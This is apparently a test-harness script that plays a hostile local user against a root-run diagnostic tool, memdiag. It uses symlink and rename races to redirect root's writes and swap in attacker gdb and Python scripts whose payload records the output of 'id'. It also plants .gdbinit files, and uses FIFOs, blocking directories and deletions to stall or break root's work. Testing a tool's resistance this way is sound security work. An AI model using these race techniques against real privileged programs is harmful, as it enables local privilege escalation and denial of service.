"""Another user's program: it watches for memdiag's directories and does to them what it can.

    attacker.py TRICK LOOT ROOTS BASE...

LOOT: a directory that everybody may write to. ROOTS: a directory of root's, to lead root to.
BASE: where memdiag makes its directories. Runs until it is killed; only its own rights protect
anybody from it.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import stat
import sys
from pathlib import Path

# What memdiag has written into such a directory, in one version or another.
SCRIPTS = ("enter.gdb", "enter.py", "enter.bin")
INNER = ("rings", "probe", "channel", "work")
NAMES = (*SCRIPTS, *INNER, "watcher", "none", ".gdbinit", "1-1.ring", "x.ring")
_DEEPEST = 3


class Attacker:
    """One trick, again and again."""

    def __init__(self, trick: str, loot: Path, roots: Path) -> None:
        self._trick = getattr(self, trick)
        self._loot = loot
        self._roots = roots
        self._done: set[str] = set()
        self._before: set[str] = set()

    def prepare(self, base: str) -> None:
        """Leave alone what is there already, which is somebody else's; be first elsewhere."""
        self._before |= {entry.path for entry in _entries(base)}
        for uid in (0, os.getuid()):
            with contextlib.suppress(OSError):
                if self._trick == self.own_base:
                    os.mkdir(f"{base}/memdiag-{uid}")  # noqa: PTH102
                    os.chmod(f"{base}/memdiag-{uid}", 0o777)  # noqa: PTH101
                elif self._trick == self.link_base:
                    os.symlink(self._roots / "directory", f"{base}/memdiag-{uid}")  # noqa: PTH211

    def look(self, base: str, depth: int = 0) -> None:
        """Find directories of memdiag's below `base`, and use the trick on them."""
        for entry in _entries(base):
            is_one = depth or entry.name.startswith(("memdiag", ".memdiag"))
            is_spared = entry.path in self._before or entry.name.endswith(".aside")
            if is_one and not is_spared and _is_directory(entry):
                self._try(entry.path)
                # What may be passed through need not be listed.
                for name in INNER:
                    self._try(f"{entry.path}/{name}")
                if depth < _DEEPEST:
                    self.look(entry.path, depth + 1)

    def _try(self, place: str) -> None:
        with contextlib.suppress(OSError, shutil.Error):
            if os.access(place, os.W_OK):
                self._trick(place)

    # -- the tricks ------------------------------------------------------------------------

    def swap_script(self, place: str) -> None:
        """Put our commands in the place of root's script, once that is there."""
        for name in SCRIPTS[:2]:
            path = f"{place}/{name}"
            if os.path.exists(path) and path not in self._done:  # noqa: PTH110 - speed
                os.rename(path, f"{path}.aside")  # noqa: PTH104
                self._write_script(path)
                self._done.add(path)

    def own_script(self, place: str) -> None:
        """Have root write into files of ours, and write into them again."""
        for name in SCRIPTS:
            self._write_script(f"{place}/{name}")

    def link(self, place: str) -> None:
        """Lead every file that root may write to a secret of root's."""
        self._link_all(place, self._roots / "secret")

    def link_nowhere(self, place: str) -> None:
        """Have root make a file where only root can."""
        self._link_all(place, self._roots / "made")

    def link_directory(self, place: str) -> None:
        """Lead every directory that root may make or change to one of root's."""
        for name in NAMES:
            path = f"{place}/{name}"
            if os.path.isdir(path) and not os.path.islink(path):  # noqa: PTH112, PTH114
                os.rename(path, f"{path}.aside")  # noqa: PTH104
            with contextlib.suppress(FileExistsError):
                os.symlink(self._roots / "directory", path)  # noqa: PTH211

    def swap_probe(self, place: str) -> None:
        """Put a directory full of links in the place of the one that root has just filled."""
        probe = f"{place}/probe"
        if probe in self._done or not os.path.exists(f"{probe}/watcher_lock.py"):  # noqa: PTH110
            return
        ours = f"{place}/ours"
        os.mkdir(ours)  # noqa: PTH102
        for name in ("__init__.py", "enter_process.py", "ring_format.py"):
            os.symlink(self._roots / "secret", f"{ours}/{name}")  # noqa: PTH211
        os.rename(probe, f"{place}/aside")  # noqa: PTH104
        os.rename(ours, probe)  # noqa: PTH104
        self._done.add(probe)

    def swap_directory(self, place: str) -> None:
        """Put a link to a directory of root's in the place of the whole directory."""
        if os.path.islink(place):  # noqa: PTH114
            return
        os.rename(place, f"{place}.aside")  # noqa: PTH104
        os.symlink(self._roots / "directory", place)  # noqa: PTH211

    def swap_for_ours(self, place: str) -> None:
        """Put a directory of ours, with scripts, in the place of the whole directory."""
        if place in self._done or place.endswith(".aside"):
            return
        os.rename(place, f"{place}.aside")  # noqa: PTH104
        os.mkdir(place, 0o777)  # noqa: PTH102
        for name in (*SCRIPTS, ".gdbinit"):
            self._write_script(f"{place}/{name}")
        self._done.add(place)

    def configure_gdb(self, place: str) -> None:
        """Leave files that gdb may find by itself."""
        for name in (".gdbinit", "gdbinit", "none/.gdbinit", ".gdbearlyinit"):
            os.makedirs(f"{place}/none", exist_ok=True)  # noqa: PTH103
            self._write_script(f"{place}/{name}")

    def fifos(self, place: str) -> None:
        """Have root wait for ever."""
        for name in () if _is_ours(place) else NAMES:
            with contextlib.suppress(FileExistsError):
                os.mkfifo(f"{place}/{name}", 0o666)

    def directories(self, place: str) -> None:
        """Be in root's way."""
        for name in () if _is_ours(place) else NAMES:
            with contextlib.suppress(FileExistsError):
                os.makedirs(f"{place}/{name}/full")  # noqa: PTH103

    def remove_all(self, place: str) -> None:
        """Take away what root has made."""
        for entry in _entries(place):
            with contextlib.suppress(OSError):
                shutil.rmtree(entry.path) if _is_directory(entry) else os.unlink(entry.path)  # noqa: PTH108

    def open_up(self, place: str) -> None:
        """Give everybody the right to everything."""
        os.chmod(place, 0o777)  # noqa: PTH101
        self.swap_script(place)

    def own_base(self, place: str) -> None:
        """The directory of root's channels is ours, and all that is made in it."""
        self.swap_script(place)
        self._link_all(place, self._roots / "secret")

    def link_base(self, place: str) -> None:
        """The directory of root's channels is a link to one of root's."""

    # -- their means -----------------------------------------------------------------------

    def _link_all(self, place: str, target: Path) -> None:
        for name in NAMES:
            path = f"{place}/{name}"
            if not os.path.islink(path):  # noqa: PTH114
                if os.path.lexists(path):
                    os.rename(path, f"{path}.aside")  # noqa: PTH104
                os.symlink(target, path)  # noqa: PTH211

    def _write_script(self, path: str) -> None:
        marker = self._loot / "marker"
        if path.endswith(".py"):
            text = f"import os; os.system('id > {marker}-python')\n"
        else:
            text = f"shell id > {marker}-shell\npython open('{marker}-gdb', 'w').close()\n"
        with open(path, "w") as file:  # noqa: PTH123
            file.write(text)


def _entries(place: str) -> list[os.DirEntry[str]]:
    try:
        return list(os.scandir(place))
    except OSError:
        return []


def _is_directory(entry: os.DirEntry[str]) -> bool:
    try:
        return stat.S_ISDIR(entry.stat(follow_symlinks=False).st_mode)
    except OSError:
        return False


def _is_ours(place: str) -> bool:
    """Return True for a place below one that we have made."""
    return not {*NAMES, "full"}.isdisjoint(place.split("/"))


def main() -> None:
    trick, loot, roots, *bases = sys.argv[1:]
    attacker = Attacker(trick, Path(loot), Path(roots))
    for base in bases:
        attacker.prepare(base)
    print("ready", flush=True)
    while True:
        for base in bases:
            attacker.look(base)


if __name__ == "__main__":
    main()
